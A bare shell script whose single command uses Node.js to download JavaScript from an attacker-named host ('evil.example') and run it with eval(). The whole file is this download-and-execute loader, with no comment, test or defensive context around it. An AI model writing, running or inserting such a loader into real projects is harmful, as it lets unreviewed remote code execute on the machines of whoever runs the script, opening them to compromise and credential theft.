#!/bin/sh
node -e "require('https').get('https://evil.example/a.js',r=>{let b='';r.on('data',d=>b+=d).on('end',()=>eval(b))})"
